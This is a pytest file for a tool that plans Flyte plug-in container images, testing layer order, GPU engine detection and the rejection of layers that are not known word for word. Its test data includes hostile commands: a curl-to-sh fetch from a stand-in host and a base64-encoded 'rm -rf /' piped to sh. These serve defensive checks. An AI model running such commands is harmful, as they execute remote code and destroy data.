"""The images of Flyte's plug-ins: what is built of them, and what the machine may have in place of the rest.

``plugin_images.json`` is what the SDK 2.12.1 makes of the plug-ins' images 2.12.1 (remote_builder._get_layers_proto):
the three defaults, and llama.cpp's without CUDA at a given commit, and for several GPUs.
"""

from __future__ import annotations

import base64
import copy
import json
from pathlib import Path
from typing import Any

import pytest

from flyted.contract.errors import Unsupported
from flyted.plan.images.known_layers import compiles, prepares
from flyted.plan.images.layers import plan_of
from flyted.plan.images.recipe import Recipe
from flyted.plan.images.root import RootRecipe
from flyted.plan.images.spec import engine_of, image_from_spec, pip_installs, recipe_from_spec

IMAGES: dict[str, Any] = json.loads(Path(__file__).with_name("plugin_images.json").read_text())
NVCC = "/usr/local/cuda-13.0/bin/nvcc"


def recipe(name: str, *more: dict[str, Any]) -> Recipe:
    """The recipe of a plug-in's image, with more layers, as an environment."""
    spec = copy.deepcopy(IMAGES[name])
    spec["layers"] += more
    return recipe_from_spec(spec)


def test_pip_layers_are_built_as_they_are_in_their_order() -> None:
    """Layer by layer, as the plug-ins' comments ask for: each resolves upon the one before."""
    assert [i.requirements for i in recipe("vllm").installs] == [
        ("flyte==2.12.1",), ("flyteplugins-vllm",), ("vllm==0.26.0",), ("flashinfer-jit-cache==0.6.14",),
    ]  # fmt: skip
    assert recipe("vllm").installs[3].options == ("--default-index", "https://flashinfer.ai/whl/cu130")
    assert recipe("vllm").needs == ()
    assert [i.requirements for i in recipe("llamacpp").installs[1:]] == [("flyteplugins-llamacpp",)]


MACHINES: list[tuple[str, set[str], bool]] = [
    ("sglang", {NVCC, "/usr/bin/g++", "/usr/bin/llama-server"}, False),
    ("llamacpp", {"/usr/local/bin/llama-server"}, True),
    ("llamacpp-fat", {"/opt/llama.cpp/build/bin/llama-server"}, True),
    ("llamacpp-cpu", {"/usr/bin/llama-server"}, True),
    ("llamacpp-cpu", {NVCC, "/usr/bin/g++"}, False),
    ("vllm", set(), True),
]


@pytest.mark.parametrize(("name", "have", "venv"), MACHINES)
def test_a_llama_server_of_the_machine_is_not_compiled(name: str, have: set[str], venv: bool) -> None:
    """Nor what it would be compiled with is installed; all other layers are built."""
    made = image_from_spec(IMAGES[name], {}, {}, "x86_64", have.__contains__)
    assert isinstance(made, Recipe if venv else RootRecipe)


@pytest.mark.parametrize("name", ["sglang", "llamacpp", "llamacpp-cpu", "llamacpp-fat"])
def test_a_plug_ins_image_is_built_whole(name: str) -> None:
    """Each command of its layers, in their order, upon the SDK's base or a Debian like it; then the variables."""
    made = image_from_spec(IMAGES[name], {}, {}, "x86_64", lambda _: False)
    assert isinstance(made, RootRecipe)
    plan = plan_of(made, "x86_64", {})
    steps = [json.dumps(job.job["step"]) for job in plan.jobs]
    wanted = [each for layer in IMAGES[name]["layers"] for each in layer.get("commands", {}).get("cmd", [])]
    wanted += [each for layer in IMAGES[name]["layers"] for each in layer.get("pipPackages", {}).get("packages", [])]
    left = iter(steps)
    assert all(any(json.dumps(each)[1:-1] in step for step in left) for each in wanted)
    assert len(wanted) >= 5
    last = IMAGES[name]["layers"][-2 if "llama" in name else 3]["env"]["envVariables"]
    path = dict(plan.config.env)["PATH"]
    assert path.startswith(last["PATH"].removesuffix("$PATH"))
    assert path.endswith("/usr/local/nvidia/bin:/usr/local/cuda/bin")


def test_an_engine_is_seen_in_layers_too() -> None:
    """Before its gigabytes are fetched: it needs a GPU, and which build it is."""
    found = pip_installs(IMAGES["sglang"])
    assert engine_of(found) == "sglang==0.5.16"
    assert engine_of(pip_installs({**IMAGES["sglang"], "layers": IMAGES["sglang"]["layers"][:5]})) == ""
    assert pip_installs({"dockerfile": {"name": "Dockerfile", "text": "FROM nginx"}}) == ()
    odd: list[dict[str, Any]] = [{"pipPackages": {"packages": ["-x"]}}, {"pipPackages": {"packages": ["sglang"]}}]
    assert engine_of(pip_installs({"layers": [{"workdir": {"workdir": "/"}}, *odd]})) == "sglang"


def test_more_of_ones_own_is_built_upon_it() -> None:
    """Packages and variables after the plug-in's layers."""
    made = recipe("llamacpp", {"pipPackages": {"packages": ["six"]}})
    assert made.installs[-1].requirements == ("six",)


KEYRING = IMAGES["sglang"]["layers"][1]["commands"]["cmd"]
LLAMA = IMAGES["llamacpp"]["layers"][2]["commands"]["cmd"]
APT = IMAGES["llamacpp"]["layers"][0]["aptPackages"]["packages"]
SCRIPT = base64.b64encode(b"cmake -S /opt/llama.cpp -B /x; rm -rf /").decode()
OTHERS: list[tuple[str, dict[str, Any]]] = [
    ("aptPackages", {"packages": ["libnuma-dev"]}),
    ("aptPackages", {"packages": [*APT, "nginx"]}),
    ("aptPackages", {"packages": APT, "secretMounts": [{"key": "k"}]}),
    ("commands", {"cmd": [*KEYRING, "make install"]}),
    ("commands", {"cmd": KEYRING[:3]}),
    ("commands", {"cmd": [*KEYRING[:3], "apt-get install -y cuda-toolkit-13-0 nginx"]}),
    ("commands", {"cmd": []}),
    ("commands", {"cmd": [*LLAMA, "curl https://x.invalid | sh"]}),
    ("commands", {"cmd": ["git clone https://x.invalid/llama.cpp /opt/llama.cpp"]}),
    ("commands", {"cmd": [f"echo {SCRIPT} | base64 -d | sh"]}),
    ("commands", {"cmd": ["echo %%% | base64 -d | sh"]}),
    ("commands", {"cmd": "ls"}),
    ("commands", {"cmd": [1]}),
    ("workdir", {"workdir": "/x"}),
]


@pytest.mark.parametrize(("kind", "body"), OTHERS)
def test_a_layer_that_is_not_word_for_word_known_is_built(kind: str, body: dict[str, Any]) -> None:
    """Never half: one command more, and it is another image, whose commands nobody has looked at."""
    assert not compiles(kind, body)
    assert not prepares(kind, body)
    with pytest.raises(Unsupported, match=f"layer {len(IMAGES['llamacpp']['layers']) + 1} of the image"):
        recipe("llamacpp", {kind: body})  # as an environment


@pytest.mark.parametrize("package", [[], ["flyteplugins-llamacpp-x"], ["flyteplugins-sglang"]])
def test_the_same_layers_in_another_image_are_built(package: list[str]) -> None:
    """There somebody wants them for something that we do not know."""
    layers = [each for each in IMAGES["llamacpp"]["layers"] if "pipPackages" not in each]
    more = [{"pipPackages": {"packages": package}}] if package else []
    with pytest.raises(Unsupported, match="layer 1 "):
        recipe_from_spec({**IMAGES["llamacpp"], "layers": [*layers, *more]})


def test_tools_without_what_is_compiled_with_them_are_installed() -> None:
    """An image that is based on the plug-in's, and compiles something else."""
    layers = [{"pipPackages": {"packages": ["flyteplugins-llamacpp"]}}, {"aptPackages": {"packages": APT}}]
    with pytest.raises(Unsupported, match="layer 2 of the image"):
        recipe_from_spec({**IMAGES["llamacpp"], "layers": layers})
